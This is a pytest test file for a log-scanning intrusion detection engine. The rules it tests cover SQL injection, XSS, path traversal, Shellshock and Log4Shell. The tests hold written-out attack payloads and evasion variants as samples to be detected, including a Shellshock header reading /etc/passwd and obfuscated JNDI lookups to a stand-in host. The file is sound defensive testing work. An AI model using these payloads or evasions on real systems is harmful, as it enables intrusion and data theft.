"""Every rule on its own samples through the full RuleEngine, evasions, and a benign corpus."""

from __future__ import annotations

from pathlib import Path

import pytest

from lwsyslog.detection import plan as plan_module
from lwsyslog.events import AccessEvent, Origin
from lwsyslog.findings import Finding
from lwsyslog.rules import ALL_RULES, AccessSample, ErrorSample, Sample
from lwsyslog.rules.detector import MAX_FRAGMENT_CHARS
from lwsyslog.rules.log4shell import MAX_LOOKUPS
from lwsyslog.rules.watched import WatchedPath
from lwsyslog.severity import Severity
from tests.unit.engines import builtin_engine, explain_all

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "rules"
# The built-in rules, with watched-path watching the paths its samples are written for.
DETECTOR = builtin_engine(
    [
        WatchedPath.watching(WatchedPath.sample_paths) if cls is WatchedPath else cls()
        for cls in ALL_RULES
    ]
)


def _cases(kind: str) -> list[tuple[str, Sample]]:
    return [
        (cls.id, sample)
        for cls in ALL_RULES
        for sample in (cls.must_match if kind == "match" else cls.must_not_match)
    ]


def _ids(cases: list[tuple[str, Sample]]) -> list[str]:
    seen: dict[str, int] = {}
    names = []
    for rule_id, _ in cases:
        seen[rule_id] = seen.get(rule_id, 0) + 1
        names.append(f"{rule_id}-{seen[rule_id]}")
    return names


def fired(sample: Sample | AccessEvent) -> list[str]:
    event = sample if isinstance(sample, AccessEvent) else sample.to_event()
    return [finding.rule_id for finding in DETECTOR.detect(event)]


MATCH_CASES = _cases("match")
NO_MATCH_CASES = _cases("no-match")


@pytest.mark.parametrize(("rule_id", "sample"), MATCH_CASES, ids=_ids(MATCH_CASES))
def test_rule_fires_on_its_must_match_samples(rule_id: str, sample: Sample) -> None:
    assert rule_id in fired(sample)


@pytest.mark.parametrize(("rule_id", "sample"), NO_MATCH_CASES, ids=_ids(NO_MATCH_CASES))
def test_rule_stays_quiet_on_its_must_not_match_samples(rule_id: str, sample: Sample) -> None:
    assert rule_id not in fired(sample)


@pytest.mark.parametrize(("rule_id", "sample"), MATCH_CASES, ids=_ids(MATCH_CASES))
def test_explain_agrees_with_detect(rule_id: str, sample: Sample) -> None:
    verdicts = {verdict.rule_id: verdict for verdict in explain_all(DETECTOR, sample.to_event())}
    verdict = verdicts[rule_id]
    assert verdict.matched and verdict.selected
    assert verdict.field and verdict.fragment


SQLI = "1' UNION SELECT password FROM users--"
XSS = "<script>alert(1)</script>"
TRAVERSAL = "../../../../etc/passwd"


def _encodings(payload: str) -> list[str]:
    percent = "".join(f"%{byte:02X}" for byte in payload.encode())
    return [
        percent,
        percent.replace("%", "%25"),
        "".join(f"%u{ord(char):04x}" for char in payload),
        "".join(f"&#x{ord(char):x};" for char in payload),
        "".join(char.upper() if index % 2 else char for index, char in enumerate(payload)).replace(
            " ", "%09%0b"
        ),
    ]


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [(SQLI, "sqli-union-select"), (XSS, "xss-script-tag"), (TRAVERSAL, "path-traversal-dotdot")],
)
def test_payload_is_found_behind_five_encodings(payload: str, rule_id: str) -> None:
    for encoded in _encodings(payload):
        assert rule_id in fired(AccessSample(target=f"/page?id={encoded}")), encoded


@pytest.mark.parametrize(
    "target",
    [
        "/p?id=1/**/UnIoN/**/sElEcT/**/1,2",
        "/p?id=1%2f%2a%2a%2funion%2f%2a%2a%2fselect%201",
        "/p?id=1/*!50000union*//*!50000select*/1",
        "/p?id=1%a0union%a0select%a01",
        "/p?id=1%0Aunion%0Dselect%091",
    ],
)
def test_sql_comment_and_whitespace_tricks_are_seen_through(target: str) -> None:
    assert "sqli-union-select" in fired(AccessSample(target=target))


# Whole-value SQL shapes (ended by the value's end) with a SQL comment after them or inside
# them: SQL reads the value as ending where the comment-free text does.
WHOLE_VALUES = [
    ("/login?u=%27%3D%27", "sqli-quote-operator"),
    ("/login?u=%27-0--%20-", "sqli-quote-operator"),
    ("/p?id=-1%20or%201", "sqli-leading-condition"),
    ("/login?u=admin%27%23", "sqli-quote-breakout"),
    ("/login?u=admin%27%20or%20%27", "sqli-quote-breakout"),
    ("/p?id=1;TRUNCATE%20users", "sqli-stacked-query"),
    ("/p?id=1%20AND%209227%20BETWEEN%209227%20AND%209227", "sqli-blind-probe"),
    ("/p?id=1%20UNION%20SELECT", "sqli-union-select"),
]


@pytest.mark.parametrize("comment", ["/*x*/", "/*x*/&page=2", "/**//*x*/"])
@pytest.mark.parametrize(("target", "rule_id"), WHOLE_VALUES)
def test_a_whole_value_sql_shape_is_found_with_a_comment_after_it(
    target: str, rule_id: str, comment: str
) -> None:
    assert rule_id in fired(AccessSample(target=target))
    assert rule_id in fired(AccessSample(target=target + comment))
    # The comment between the words as well: the comment-free text is the shape.
    spaced = target.replace("%20", "/*x*/")
    assert rule_id in fired(AccessSample(target=spaced + comment))


@pytest.mark.parametrize(
    "traversal",
    ["..%c0%af..%c0%afetc", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc", "..%255c..%255cwindows", "..\\..\\x"],
)
def test_overlong_and_backslash_traversals_are_found(traversal: str) -> None:
    assert "path-traversal-dotdot" in fired(AccessSample(target=f"/static/{traversal}"))


@pytest.mark.parametrize(
    "sample",
    [
        AccessSample(target="/", user_agent="() { :; }; echo; /bin/cat /etc/passwd"),
        AccessSample(target="/", referer="${${lower:j}${upper:n}di:ldap://x.example/a}"),
        AccessSample(target="/", cookie="q=1%27%20UNION%20SELECT%20null--"),
        ErrorSample(message="File does not exist: /var/www/html/<script>alert(1)</script>"),
    ],
)
def test_payloads_are_found_in_every_logged_field(sample: Sample) -> None:
    assert fired(sample)


def test_log4shell_obfuscations_in_headers() -> None:
    for value in (
        "${jndi:ldap://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
        "${${lower:jnd}${lower:i}:rmi://x.example/a}",
        "%24%7Bjndi%3Adns%3A%2F%2Fx.example%2Fa%7D",
    ):
        for field in ("user_agent", "referer", "cookie"):
            sample = AccessSample(target="/", **{field: value})  # type: ignore[arg-type]
            assert "log4shell-jndi" in fired(sample), (field, value)


def test_a_flood_of_log4j_lookups_is_reported_as_jndi_and_a_few_are_not() -> None:
    # Past MAX_LOOKUPS the rule stops resolving and fails closed: padding cannot hide the one
    # that spells jndi, and resolving thousands of lookups is not paid.
    hidden = "${::-a}" * MAX_LOOKUPS + "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}"
    flood = "${::-a}" * (MAX_LOOKUPS + 1)
    few = "${::-a}" * (MAX_LOOKUPS // 2)
    for field in ("user_agent", "referer"):
        assert "log4shell-jndi" in fired(AccessSample(target="/", **{field: hidden}))  # type: ignore[arg-type]
        assert "log4shell-jndi" in fired(AccessSample(target="/", **{field: flood}))  # type: ignore[arg-type]
        assert "log4shell-jndi" not in fired(AccessSample(target="/", **{field: few}))  # type: ignore[arg-type]


def test_fake_client_in_url_does_not_frame_another_address() -> None:
    event = AccessSample(
        target="/x?q=[client%201.2.3.4]%20%27%20OR%201=1--", client_ip="203.0.113.9"
    ).to_event()
    findings = DETECTOR.detect(event)
    assert findings
    assert {finding.client_ip for finding in findings} == {"203.0.113.9"}


def test_fake_auth_failure_in_a_missing_file_name_is_not_one() -> None:
    sample = ErrorSample(
        message="File does not exist: /srv/site/[client 192.168.0.1] user root not found",
        client_ip="192.168.33.1",
    )
    assert "auth-failure-error-log" not in fired(sample)


def test_finding_carries_the_event_context() -> None:
    origin = Origin("access.log", 1234, host="web1")
    event = AccessSample(target="/p?id=1%20union%20select%201", client_ip="203.0.113.9").to_event(
        origin
    )
    finding = next(f for f in DETECTOR.detect(event) if f.rule_id == "sqli-union-select")
    assert finding == Finding(
        rule_id="sqli-union-select",
        categories=("sqli",),
        severity=Severity.HIGH,
        client_ip="203.0.113.9",
        origin=origin,
        log="access",
        time=event.time,
        field="target",
        fragment="union select",
    )


def test_fragment_is_bounded() -> None:
    event = AccessSample(target="/x?q=%3Cscript" + "a" * 5000 + "%3E").to_event()
    event.user_agent = "${jndi:ldap://" + "a" * 5000 + "}"
    for finding in DETECTOR.detect(event):
        assert len(finding.fragment) <= MAX_FRAGMENT_CHARS


def test_huge_target_is_scanned_without_blowing_up() -> None:
    target = "/x?q=%27%20union%20select%201--" + "%41" * (4 * 1024 * 1024)
    assert "sqli-union-select" in fired(AccessSample(target=target))


def test_repeated_values_give_the_same_verdict_from_the_cache() -> None:
    sample = AccessSample(target="/", user_agent="sqlmap/1.8#stable (https://sqlmap.org)")
    assert fired(sample) == fired(sample) == ["scanner-user-agent"]


def test_caches_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plan_module, "CACHE_ENTRIES", 8)
    detector = builtin_engine()
    for index in range(50):
        detector.detect(AccessSample(target=f"/p{index}", user_agent=f"Agent/{index}").to_event())
    assert detector.detect(AccessSample(target="/", user_agent="Nikto/2.5").to_event())
    for plan in detector._plans.values():
        assert all(len(source.cache) <= 8 for source in plan.sources)


def test_rules_apply_only_to_their_log() -> None:
    assert fired(
        ErrorSample(message='user admin: authentication failure for "/": Password Mismatch')
    )
    assert "auth-failure-401" not in fired(ErrorSample(message="401"))
    assert "dos-max-workers" not in fired(AccessSample(target="/server%20reached%20MaxClients"))


def _benign_requests() -> list[AccessSample]:
    samples = []
    for line in (FIXTURES / "benign_requests.txt").read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        method, target, status, user_agent, *rest = line.split("\t")
        samples.append(
            AccessSample(
                method=method,
                target=target,
                status=int(status),
                user_agent=user_agent,
                referer=rest[0] if rest else "",
                client_ip="198.51.100.20",
            )
        )
    return samples


BENIGN = _benign_requests()


def test_benign_corpus_is_large_enough() -> None:
    assert len(BENIGN) >= 50


@pytest.mark.parametrize("sample", BENIGN, ids=[sample.target[:40] for sample in BENIGN])
def test_benign_request_raises_nothing_of_medium_or_more(sample: AccessSample) -> None:
    serious = [
        (finding.rule_id, finding.fragment)
        for finding in DETECTOR.detect(sample.to_event())
        if finding.severity.rank >= Severity.MEDIUM.rank
    ]
    assert serious == []


def test_explain_tells_selected_from_unselected_rules() -> None:
    # Both words of UNION SELECT, apart (as the rule does not match them): selected, no match.
    event = AccessSample(target="/search?q=a+union+of+friends+to+select").to_event()
    verdicts = {verdict.rule_id: verdict for verdict in explain_all(DETECTOR, event)}
    assert verdicts["sqli-union-select"].selected
    assert not verdicts["sqli-union-select"].matched
    assert not verdicts["xss-script-tag"].selected
    assert "auth-failure-error-log" not in verdicts
